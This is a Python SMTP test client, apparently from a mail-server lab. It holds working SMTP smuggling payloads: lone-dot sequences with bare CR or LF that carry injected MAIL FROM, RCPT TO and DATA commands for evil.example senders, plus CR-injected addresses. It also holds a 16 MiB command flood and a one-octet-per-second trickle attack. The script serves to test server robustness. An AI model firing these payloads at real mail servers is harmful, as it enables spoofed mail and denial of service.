#!/usr/bin/python3
"""hostile_client - the lab's hostile SMTP client: raw octets, timings, floods.

SYNOPSIS
    hostile_client.py smuggle --connect ADDR:PORT --case CASE --tag TAG
                      [--rcpt-domain D] [--json OUT] [--timeout S]
    hostile_client.py txn --connect ADDR:PORT --from A --rcpt A [--marker M]
                      [--json OUT] [--timeout S]
    hostile_client.py flood --connect ADDR:PORT [--bytes N] [--line TEXT]
                      [--time-limit S] [--ctl DIR] [--hold S] [--json OUT]
    hostile_client.py trickle --connect ADDR:PORT --line TEXT [--interval S]
                      [--time-limit S] [--json OUT]
    hostile_client.py cases

DESCRIPTION
    smuggle runs one transaction that tries SMTP smuggling (CASE, see
    `cases'): EHLO, MAIL, RCPT, DATA, each waiting for its reply, one of
    them or the message carrying the hostile octets; a command is sent
    only after the one before it was accepted (DATA only after a 2xx to
    RCPT, the message only after 354).  Each body case is a message whose
    text holds the case's lone-dot sequence followed by
    "MAIL FROM:<evil-CASE-TAG@evil.example>", "RCPT TO:<victim-CASE-TAG@
    RCPT-DOMAIN>", "DATA" and a smuggled message, then the real CRLF.CRLF.
    The reply to that (the "verdict") is read, then HELP is sent and
    replies are read until HELP's 214, the end of the connection, or
    --timeout: any reply before the 214 answers something that followed
    the hostile sequence, i.e. it was executed as a command.  Then QUIT.
    The JSON has the steps, "verdict" (the first 4xx/5xx reply, or the
    final reply), "refused" (no 2xx to the end of data, and a 4xx/5xx),
    "extra" (the replies before the 214), "probe" (214, closed, timeout)
    and "legit": the MAIL and RCPT addresses and the number of DATA
    commands that the client sent as real CRLF-ended commands outside
    DATA; an MX that executed anything else was smuggled to.

    txn runs one plain transaction to RCPT (EHLO, MAIL, RCPT, DATA, a small
    message containing --marker, QUIT), each step waiting at most --timeout
    seconds for its reply, and writes every step with its reply and the
    seconds it took.  It never exits 1 for an SMTP answer: the caller
    judges the JSON ("steps": [{"cmd", "code", "reply", "seconds",
    "error"}], "closed").

    flood connects and sends --bytes octets (default 16 MiB) of --line
    (default NOOP) with CRLF, never reading a reply, until all is sent or
    --time-limit seconds (default 10) passed; then it waits one second,
    creates DIR/sent (--ctl), waits up to --hold seconds (default 15) for
    DIR/close and closes the connection.

    trickle reads the greeting, sends EHLO (reading its reply), then sends
    --line and CRLF one octet every --interval seconds (default 1),
    reading whatever the server says meanwhile, until the server closes,
    the line is sent, or --time-limit seconds (default 20).  The JSON has
    "first" (epoch seconds of the first trickled octet), "replies" ([time,
    text]), "eof" (epoch seconds, or null), "sent" (octets trickled) and
    "end".

    Replies are read line by line (LF ends a line, a CR before it is
    dropped, other octets are kept, latin-1); a line that is not
    "DDD", "DDD TEXT" or "DDD-TEXT" ends the reply as malformed (code
    null).

EXIT STATUS
    0 when the client did what it was asked (whatever the server said);
    1 on a local error (cannot connect); 2 on usage errors (an unknown case too).
"""

import argparse
import json
import os
import select
import socket
import sys
import time

BODY_CASES = {
    "lf-dot-lf": b"\n.\n",
    "crlf-dot-lf": b"\r\n.\n",
    "lf-dot-crlf": b"\n.\r\n",
    "cr-dot-crlf": b"\r.\r\n",
    "crlf-dot-cr": b"\r\n.\r",	# then the smuggled commands right away ("X")
    "cr-dot-cr": b"\r.\r",
}
CMD_CASES = ("mail-quoted-cr", "mail-bare-cr", "rcpt-quoted-cr", "rcpt-bare-cr")


def now():
    return time.time()


class Conn:
    def __init__(self, spec, timeout):
        if spec.startswith("["):
            host, _, port = spec[1:].partition("]:")
        else:
            host, _, port = spec.rpartition(":")
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.sock = socket.socket(fam, socket.SOCK_STREAM)
        self.sock.settimeout(timeout)
        self.sock.connect((host, int(port)))
        self.buf = b""
        self.closed = False

    def send(self, data):
        try:
            self.sock.sendall(data)
            return None
        except OSError as e:
            self.closed = True
            return "write: %s" % e

    def line(self, deadline):
        """One line (str) or None at EOF; raises socket.timeout."""
        while b"\n" not in self.buf:
            left = deadline - now()
            if left <= 0:
                raise socket.timeout("timed out")
            self.sock.settimeout(left)
            try:
                d = self.sock.recv(65536)
            except ConnectionResetError:
                d = b""
            if not d:
                self.closed = True
                if self.buf:
                    l, self.buf = self.buf, b""
                    return l.decode("latin-1")
                return None
            self.buf += d
        l, _, self.buf = self.buf.partition(b"\n")
        if l.endswith(b"\r"):
            l = l[:-1]
        return l.decode("latin-1")

    def reply(self, timeout):
        """(code or None, text, error or None); multi-line joined with " | "."""
        deadline = now() + timeout
        lines = []
        try:
            while True:
                l = self.line(deadline)
                if l is None:
                    return None, " | ".join(lines), "connection closed"
                lines.append(l)
                if len(l) < 3 or not l[:3].isdigit() or (len(l) > 3 and l[3] not in " -"):
                    return None, " | ".join(lines), "malformed reply line"
                if len(l) == 3 or l[3] == " ":
                    return int(l[:3]), " | ".join(lines), None
                if len(lines) > 10000:
                    return None, " | ".join(lines[:5]) + " | ...", "more than 10000 lines"
        except socket.timeout:
            return None, " | ".join(lines), "timeout after %gs" % timeout
        except OSError as e:
            self.closed = True
            return None, " | ".join(lines), "read: %s" % e


def short(text, n=300):
    return text if len(text) <= n else text[:n] + "...(%d chars)" % len(text)


class Steps:
    """Commands and their replies, for the JSON."""

    def __init__(self, c, timeout):
        self.c = c
        self.timeout = timeout
        self.steps = []

    def step(self, label, data):
        t0 = now()
        err = self.c.send(data) if data else None
        code, text = None, ""
        if err is None:
            code, text, err = self.c.reply(self.timeout)
        s = {"cmd": label, "code": code, "reply": short(text), "error": err,
             "seconds": round(now() - t0, 3)}
        self.steps.append(s)
        print("%s -> %s <- %s%s (%.3fs)" % (time.strftime("%H:%M:%S"), label, code,
              " " + short(text, 200) if text else "", s["seconds"]) +
              (" [%s]" % err if err else ""), flush=True)
        return s


def finish(o, res, err=None, local=False):
    """finish - res["error"] = err, res to --json; the exit status (1 only
    for a local error: the server's answers are for the caller to judge)"""
    res["error"] = err
    if o.json:
        with open(o.json, "w") as f:
            json.dump(res, f, indent=1)
    return 1 if local else 0


def cmd_cases(o):
    for k in BODY_CASES:
        print("%s\tbody\t%r" % (k, BODY_CASES[k]))
    for k in CMD_CASES:
        print("%s\tcommand" % k)
    return 0


def cmd_smuggle(o):
    case, tag, dom = o.case, o.tag, o.rcpt_domain
    if case not in BODY_CASES and case not in CMD_CASES:
        print("hostile_client: unknown case %s" % case, file=sys.stderr)
        return 2
    sender = "s-%s-%s@client.example" % (case, tag)
    rcpt = "r-%s-%s@%s" % (case, tag, dom)
    evil = "evil-%s-%s@evil.example" % (case, tag)
    victim = "victim-%s-%s@%s" % (case, tag, dom)
    mail_line = "MAIL FROM:<%s>" % sender
    rcpt_line = "RCPT TO:<%s>" % rcpt
    if case == "mail-quoted-cr":
        sender = '"x\rRCPT TO:<%s>\r"@client.example' % victim
        mail_line = "MAIL FROM:<%s>" % sender
    elif case == "mail-bare-cr":
        mail_line = "MAIL FROM:<%s>\rRCPT TO:<%s>" % (sender, victim)
    elif case == "rcpt-quoted-cr":
        rcpt = '"r\rMAIL FROM:<%s>\r"@%s' % (evil, dom)
        rcpt_line = "RCPT TO:<%s>" % rcpt
    elif case == "rcpt-bare-cr":
        rcpt_line = "RCPT TO:<%s>\rDATA" % rcpt
    res = {"case": case, "steps": [], "legit": {"mail": [], "rcpt": [], "data": 0},
           "verdict": None, "refused": False, "extra": [], "probe": None, "error": None}

    try:
        c = Conn(o.connect, o.timeout)
    except OSError as e:
        return finish(o, res, "connect %s: %s" % (o.connect, e), local=True)
    st = Steps(c, o.timeout)
    res["steps"] = st.steps
    s = st.step("(greeting)", None)
    if s["code"] != 220:
        return finish(o, res, "greeting: %s %s" % (s["code"], s["error"] or s["reply"]))
    s = st.step("EHLO client.example", b"EHLO client.example\r\n")
    if s["code"] != 250:
        return finish(o, res, "EHLO: %s %s" % (s["code"], s["error"] or s["reply"]))
    body = None
    if case in BODY_CASES:
        body = (b"From: <%s>\r\nTo: <%s>\r\nSubject: smuggling %s\r\n\r\n"
                b"This message carries a lone dot next to a bare line end.\r\n"
                b"text before the dot" % (sender.encode(), rcpt.encode(), case.encode()))
        body += BODY_CASES[case]
        body += (b"MAIL FROM:<%s>\r\nRCPT TO:<%s>\r\nDATA\r\n"
                 b"Subject: smuggled %s\r\n\r\nsmuggled body\r\n" % (
                     evil.encode(), victim.encode(), case.encode()))
        body += b".\r\n"
    else:
        body = (b"From: <s@client.example>\r\nSubject: %s\r\n\r\nordinary body\r\n.\r\n"
                % case.encode())
    final = None
    res["legit"]["mail"].append(sender)
    s = st.step(repr(mail_line), mail_line.encode("latin-1") + b"\r\n")
    ok = s["code"] is not None and s["code"] // 100 == 2
    if ok:
        res["legit"]["rcpt"].append(rcpt)
        s = st.step(repr(rcpt_line), rcpt_line.encode("latin-1") + b"\r\n")
        ok = s["code"] is not None and s["code"] // 100 == 2
    if ok:
        res["legit"]["data"] += 1
        s = st.step("DATA", b"DATA\r\n")
        ok = s["code"] == 354
    if ok:
        s = st.step("(message: %d octets with %s)" % (len(body), case), body)
        final = s
    for s in st.steps[2:]:
        if s["code"] is not None and s["code"] // 100 in (4, 5):
            res["verdict"] = "%s %s" % (s["code"], s["reply"])
            break
    if res["verdict"] is None and st.steps[-1]["code"] is not None:
        res["verdict"] = "%s %s" % (st.steps[-1]["code"], st.steps[-1]["reply"])
    res["refused"] = (res["verdict"] is not None and res["verdict"][0] in "45"
                      and not (final and final["code"] is not None and final["code"] // 100 == 2))
    # What follows the hostile octets must not have been executed: HELP's
    # 214 is the next reply, or the connection is closed.
    if c.closed or (st.steps[-1]["error"] or "").startswith("connection closed"):
        res["probe"] = "closed"
    else:
        err = c.send(b"HELP\r\n")
        end = now() + o.timeout
        while err is None and now() < end:
            code, text, err = c.reply(max(0.1, end - now()))
            if code == 214:
                res["probe"] = "214"
                break
            if code is not None or text:
                res["extra"].append("%s" % short(text))
        if res["probe"] is None:
            res["probe"] = "closed" if c.closed else (err or "timeout")
        print("HELP probe: %s; replies before it: %s" % (res["probe"], res["extra"]), flush=True)
        if not c.closed:
            c.send(b"QUIT\r\n")
            c.reply(2)
    return finish(o, res)


def cmd_txn(o):
    res = {"steps": [], "closed": False, "error": None, "t0": now()}
    try:
        c = Conn(o.connect, o.timeout)
    except OSError as e:
        return finish(o, res, "connect %s: %s" % (o.connect, e), local=True)
    st = Steps(c, o.timeout)
    res["steps"] = st.steps
    body = (b"From: <%s>\r\nTo: <%s>\r\nSubject: hostile MX test\r\n\r\n%s\r\n.\r\n"
            % (o.mail_from.encode(), o.rcpt.encode(), o.marker.encode()))
    plan = [("(greeting)", None, (220,)), ("EHLO client.example", b"EHLO client.example\r\n", (250,)),
            ("MAIL FROM:<%s>" % o.mail_from, b"MAIL FROM:<%s>\r\n" % o.mail_from.encode(), (250,)),
            ("RCPT TO:<%s>" % o.rcpt, b"RCPT TO:<%s>\r\n" % o.rcpt.encode(), (250, 251)),
            ("DATA", b"DATA\r\n", (354,)), ("(message, %d octets)" % len(body), body, ())]
    for label, data, want in plan:
        s = st.step(label, data)
        if s["code"] is None or (want and s["code"] not in want):
            break
    if not c.closed:
        st.step("QUIT", b"QUIT\r\n")
    res["closed"] = c.closed
    return finish(o, res)


def cmd_flood(o):
    res = {"sent": 0, "seconds": None, "end": None, "error": None}
    try:
        c = Conn(o.connect, 10)
    except OSError as e:
        return finish(o, res, "connect %s: %s" % (o.connect, e), local=True)
    unit = o.line.encode() + b"\r\n"
    chunk = unit * (65536 // len(unit))
    c.sock.setblocking(False)
    t0 = now()
    end = t0 + o.time_limit
    left = o.bytes
    why = "all sent"
    while left > 0:
        if now() >= end:
            why = "time limit (%gs)" % o.time_limit
            break
        _, w, _ = select.select([], [c.sock], [], min(0.5, max(0, end - now())))
        if not w:
            continue
        try:
            n = c.sock.send(chunk[:min(len(chunk), left)])
        except BlockingIOError:
            continue
        except OSError as e:
            why = "write: %s" % e
            break
        left -= n
        res["sent"] += n
    res["seconds"] = round(now() - t0, 3)
    res["end"] = why
    print("flood: sent %d of %d octets in %.3fs: %s" % (res["sent"], o.bytes, res["seconds"], why),
          flush=True)
    time.sleep(1)
    if o.ctl:
        with open(os.path.join(o.ctl, "sent"), "w") as f:
            f.write("%d\n" % res["sent"])
        stop = now() + o.hold
        while now() < stop and not os.path.exists(os.path.join(o.ctl, "close")):
            time.sleep(0.05)
    c.sock.close()
    return finish(o, res)


def cmd_trickle(o):
    res = {"first": None, "replies": [], "eof": None, "sent": 0, "end": None, "error": None}
    try:
        c = Conn(o.connect, 10)
    except OSError as e:
        return finish(o, res, "connect %s: %s" % (o.connect, e), local=True)
    code, text, err = c.reply(10)
    if code != 220:
        return finish(o, res, "greeting: %s %s" % (code, err or text))
    c.send(b"EHLO trickle.client.example\r\n")
    code, text, err = c.reply(10)
    if code != 250:
        return finish(o, res, "EHLO: %s %s" % (code, err or text))
    data = o.line.encode("latin-1") + b"\r\n"
    t0 = now()
    end = t0 + o.time_limit
    nxt = t0
    c.sock.setblocking(False)
    why = None
    while why is None:
        t = now()
        if t >= end:
            why = "time limit (%gs)" % o.time_limit
            break
        if t >= nxt and res["sent"] < len(data):
            try:
                c.sock.send(data[res["sent"]:res["sent"] + 1])
            except OSError as e:
                why = "write: %s" % e
                break
            if res["first"] is None:
                res["first"] = round(t, 3)
            res["sent"] += 1
            nxt = t + o.interval
        r, _, _ = select.select([c.sock], [], [], max(0.01, min(nxt, end) - now()))
        if r:
            try:
                d = c.sock.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                d = b""
            if not d:
                res["eof"] = round(now(), 3)
                why = "closed by the server"
                break
            for l in d.decode("latin-1").splitlines():
                res["replies"].append([round(now(), 3), l])
                print("%s <- %s" % (time.strftime("%H:%M:%S"), l), flush=True)
    res["end"] = why
    print("trickle: %d octets sent, one per %gs, from %s: %s" % (
        res["sent"], o.interval, res["first"], why), flush=True)
    c.sock.close()
    return finish(o, res)


def main():
    ap = argparse.ArgumentParser(description="lab hostile SMTP client")
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("smuggle")
    p.add_argument("--connect", required=True)
    p.add_argument("--case", required=True)
    p.add_argument("--tag", required=True)
    p.add_argument("--rcpt-domain", default="tls.lab.example")
    p.add_argument("--json")
    p.add_argument("--timeout", type=float, default=15.0)
    p = sub.add_parser("txn")
    p.add_argument("--connect", required=True)
    p.add_argument("--from", dest="mail_from", required=True)
    p.add_argument("--rcpt", required=True)
    p.add_argument("--marker", default="hostile-body-marker")
    p.add_argument("--json")
    p.add_argument("--timeout", type=float, default=30.0)
    p = sub.add_parser("flood")
    p.add_argument("--connect", required=True)
    p.add_argument("--bytes", type=int, default=16 * 1024 * 1024)
    p.add_argument("--line", default="NOOP")
    p.add_argument("--time-limit", type=float, default=10.0)
    p.add_argument("--ctl")
    p.add_argument("--hold", type=float, default=15.0)
    p.add_argument("--json")
    p = sub.add_parser("trickle")
    p.add_argument("--connect", required=True)
    p.add_argument("--line", required=True)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--time-limit", type=float, default=20.0)
    p.add_argument("--json")
    sub.add_parser("cases")
    o = ap.parse_args()
    return {"smuggle": cmd_smuggle, "txn": cmd_txn, "flood": cmd_flood,
            "trickle": cmd_trickle, "cases": cmd_cases}[o.cmd](o)


if __name__ == "__main__":
    sys.exit(main())
